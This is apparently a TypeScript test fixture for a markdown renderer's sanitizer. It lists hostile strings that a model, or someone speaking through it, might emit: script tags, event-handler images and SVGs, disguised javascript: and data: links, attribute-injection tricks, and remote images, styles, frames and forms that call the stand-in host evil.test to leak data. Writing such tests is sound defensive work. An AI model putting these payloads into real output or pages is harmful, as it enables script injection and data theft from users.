/** What a model, or who speaks through it, might write to run or load something. `pwned` is what they would call. */
export const hostileMarkdown: Readonly<Record<string, string>> = {
  'a script': '<script>pwned()</script>',
  'an image that fails': '<img src=x onerror=pwned()>',
  'an svg': '<svg onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s></svg>',
  'a javascript link': '[click](javascript:pwned())',
  'a javascript link in disguise':
    '[a](JaVaScRiPt:pwned()) [b](&#106;avascript:pwned()) [c](java\\nscript:pwned()) [d](<java\nscript:pwned()>) [e]( javascript:pwned())',
  'a javascript autolink': '<javascript:pwned()> <vbscript:pwned()>',
  'a data link': '[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)',
  'a data image': '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InB3bmVkKCkiLz4=)',
  'a remote image': '![spy](https://evil.test/pixel.png?secret)',
  'a remote image by reference': '![spy][1]\n\n[1]: https://evil.test/pixel.png "t"',
  'an image in a link': '[![spy](https://evil.test/a.png)](https://evil.test/b)',
  'an attribute in a title': `[x](https://ok.test "a\\" onmouseover=\\"pwned()")`,
  'an attribute in an address':
    '[x](https://ok.test/"onmouseover="pwned()) <https://ok.test/"onclick="pwned()>',
  'an attribute in a language': '```"><img/src=x/onerror=pwned()>\ncode\n```',
  'markup in code': '`<img src=x onerror=pwned()>`\n\n```html\n<script>pwned()</script>\n```',
  'a style': '<style>@import url(https://evil.test/a.css); body { display: none }</style>',
  'an inline style': '<p style="background:url(https://evil.test/a.png)">x</p>',
  'a frame': '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
  'a form': '<form action="https://evil.test/"><input name=q><button>Go</button></form>',
  'a base': '<base href="https://evil.test/"><link rel=stylesheet href="https://evil.test/a.css">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  'a namespace trick':
    '<math><mtext><table><mglyph><style><img src=x onerror=pwned()></style></mglyph></table></mtext></math>',
  'a broken tag': '<img src="x` `<script>pwned()</script>"` `>',
  'a command link': '[x](command:workbench.action.terminal.new) [y](vscode://x.y/z) [z](file:///etc/passwd)',
  'an autolink with markup': 'https://evil.test/<img/src=x/onerror=pwned()>',
  'a table with markup': '| <img src=x onerror=pwned()> | b |\n|:-:|---|\n| [x](javascript:pwned()) | y |',
  'a copy button of its own': '<button data-copy="code" onclick="pwned()">Copy</button>',
};
